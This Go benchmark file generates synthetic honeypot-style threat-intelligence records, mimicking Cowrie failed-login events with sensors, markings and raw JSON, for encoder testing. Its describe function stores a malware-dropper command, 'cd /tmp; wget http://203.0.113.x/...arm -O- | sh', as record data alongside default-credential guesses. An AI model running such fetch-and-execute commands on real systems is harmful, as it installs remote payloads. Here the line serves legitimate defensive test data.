package bench

import (
	"encoding/binary"
	"errors"
	"fmt"
	"time"

	"github.com/opencure/cure"
	"github.com/opencure/cure/internal/store/storetest"
	"github.com/opencure/cure/internal/wire"
)

// recordStream makes records as publishers do, out of the rows of a generated
// stream: a session id, a sensor, a marking (half of the cells are AMBER, the
// others GREEN), attributes and a raw line. The same seed gives the same
// records.
type recordStream struct {
	stream *storetest.Stream
	recs   []cure.Record
}

func newRecordStream(observations int, seed uint64) *recordStream {
	return &recordStream{stream: storetest.NewStream(observations, seed)}
}

// next returns the source, the records and the number of observations of the
// next batch; no records at the end. They are valid until the next call.
func (s *recordStream) next() (src cure.Source, recs []cure.Record, rows int, err error) {
	_, b := s.stream.Next()
	if b == nil {
		return "", nil, 0, nil
	}
	s.recs = append(s.recs[:0], make([]cure.Record, len(b.Envelopes))...)
	for i := range b.Rows {
		row := &b.Rows[i]
		o, err := cure.FromKey(row.Kind, b.Key(row))
		if err != nil {
			return "", nil, 0, err
		}
		rec := &s.recs[row.Record]
		rec.Observations = append(rec.Observations, cure.Observation{
			Observable: o, Role: row.Role, State: row.State, Count: row.Count,
			First: time.UnixMilli(row.First).UTC(), Last: time.UnixMilli(row.Last).UTC(),
		})
	}
	for i := range b.Annotations {
		a := &b.Annotations[i]
		subject, err1 := cure.FromKey(a.SubjectKind, b.SubjectKey(a))
		tag, err2 := cure.FromKey(a.TagKind, b.TagKey(a))
		if err := errors.Join(err1, err2); err != nil {
			return "", nil, 0, err
		}
		rec := &s.recs[a.Record]
		rec.Annotations = append(rec.Annotations, cure.Annotation{
			Subject: subject, Tag: tag, Time: time.UnixMilli(a.Time).UTC(), Confidence: a.Confidence,
		})
	}
	for i, e := range b.Envelopes {
		describe(&s.recs[i], e)
	}
	return b.Source, s.recs, len(b.Rows), nil
}

// describe adds what the log keeps and memory does not: who was logged in as,
// with what, and the line it was read from.
func describe(rec *cure.Record, e wire.Envelope) {
	n := binary.LittleEndian.Uint64(e.ID[:])
	rec.ID = e.ID
	rec.Sensor = fmt.Sprintf("sensor-%d", n%7)
	rec.Marking = cure.Marking{TLP: cure.TLPGreen, PAP: cure.PAPGreen, Licence: cure.LicenceMembers}
	if e.Marking > 0 {
		rec.Marking.TLP = cure.TLPAmber
	}
	user, password := [...]string{"root", "admin", "user", "oracle"}[n>>8%4], fmt.Sprintf("pw%d", n>>16%5000)
	rec.Attrs = []cure.Attr{
		{Name: "username", Value: user},
		{Name: "password", Value: password},
		{Name: "command", Value: fmt.Sprintf("cd /tmp; wget http://203.0.113.%d/s%d.arm -O- | sh", n>>24%250+1, n>>32%3000)},
	}
	o := &rec.Observations[0]
	rec.Raw = fmt.Appendf(nil, `{"eventid":"cowrie.login.failed","username":"%s","password":"%s","message":"login attempt [%s/%s] failed",`+
		`"sensor":"%s","src_ip":"%s","session":"%x","timestamp":"%s"}`,
		user, password, user, password, rec.Sensor, o.Observable.Value, e.ID[:6], o.First.Format(time.RFC3339Nano))
}

// lane encodes the batches of one source.
type lane struct {
	enc   *wire.Encoder
	epoch uint64
	seq   uint64
}

func newLane(seed [16]byte, epoch, seq uint64) (*lane, error) {
	enc, err := wire.NewEncoder(seed)
	return &lane{enc: enc, epoch: epoch, seq: seq}, err
}

// encode makes one batch of the records.
func (l *lane) encode(src cure.Source, recs []cure.Record) ([]byte, error) {
	for i := range recs {
		if err := l.enc.Add(&recs[i]); err != nil {
			return nil, err
		}
	}
	l.seq++
	return l.enc.Flush(wire.Header{Source: src, Epoch: l.epoch, Seq: l.seq, Created: recs[0].Observations[0].First})
}
